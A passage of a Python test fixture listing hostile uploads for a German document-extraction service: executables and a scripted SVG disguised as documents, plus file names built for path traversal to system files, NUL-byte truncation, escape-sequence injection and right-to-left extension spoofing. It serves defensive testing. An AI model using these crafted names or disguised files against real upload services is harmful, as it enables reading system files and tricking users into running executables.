                message="Text erfolgreich extrahiert", extraction_status="ok"),
    HostileFile("svg-with-script", "wappen.svg", build_svg_with_script, refused=True,
                message="Das Dateiformat SVG (Bild) wird nicht unterstützt", http_status=415),
    HostileFile("pdf-after-junk", "haushalt.pdf", build_pdf_after_junk, refused=True,
                message="PDF-Kennung steht nicht am Anfang", http_status=415),
    HostileFile("elf-as-pdf", "programm.pdf", build_elf_executable, refused=True,
                message="ELF (Programm)", http_status=415),
    HostileFile("exe-as-pdf", "setup.pdf", build_pe_executable, refused=True,
                message="EXE (Programm)", http_status=415),
)

_LONG_STEM = "Bürgerbeteiligung-" * 17  # 306 characters before the extension

NAMES: tuple[HostileFile, ...] = (
    HostileFile("name-dot-dot-slash", "../../../etc/passwd.txt", build_plain_text, refused=False,
                message="", extraction_status="ok", stored_filename="passwd.txt", on_disk=False),
    HostileFile("name-backslashes", "..\\..\\Windows\\win.ini.txt", build_plain_text, refused=False,
                message="", extraction_status="ok", stored_filename="win.ini.txt", on_disk=False,
                stored_over_http="Windowswin.ini.txt"),
    HostileFile("name-nul", "bericht.txt\x00.pdf", build_plain_text, refused=False,
                message="", extraction_status="ok", stored_filename="bericht.txt.pdf", on_disk=False),
    HostileFile("name-control-characters", "Be\x1b[31mricht\r\n\t\x07.txt", build_plain_text, refused=False,
                message="", extraction_status="ok", stored_filename="Be[31mricht.txt",
                stored_over_http="Be[31mricht .txt"),
    HostileFile("name-300-characters", _LONG_STEM + ".txt", build_plain_text, refused=False,
                message="", extraction_status="ok", on_disk=False),
    HostileFile("name-bidi-override", "rechnung\u202etxt.exe", build_plain_text, refused=False,
                message="", extraction_status="ok", stored_filename="rechnungtxt.exe"),
    HostileFile("name-lookalikes", "Веrіcht\u2215Ρrüfung\u200b.txt", build_plain_text, refused=False,
                message="", extraction_status="ok", stored_filename="Веrіcht\u2215Ρrüfung.txt"),
    HostileFile("name-umlauts-decomposed", "Gro\u0308\u00dfe Stra\u00dfe in Gie\u00dfen.txt",
                build_plain_text, refused=False, message="", extraction_status="ok",
                stored_filename="Größe Straße in Gießen.txt"),
)

ALL: tuple[HostileFile, ...] = FILES + NAMES


def by_kind(kind: str) -> HostileFile:
    return next(item for item in ALL if item.kind == kind)
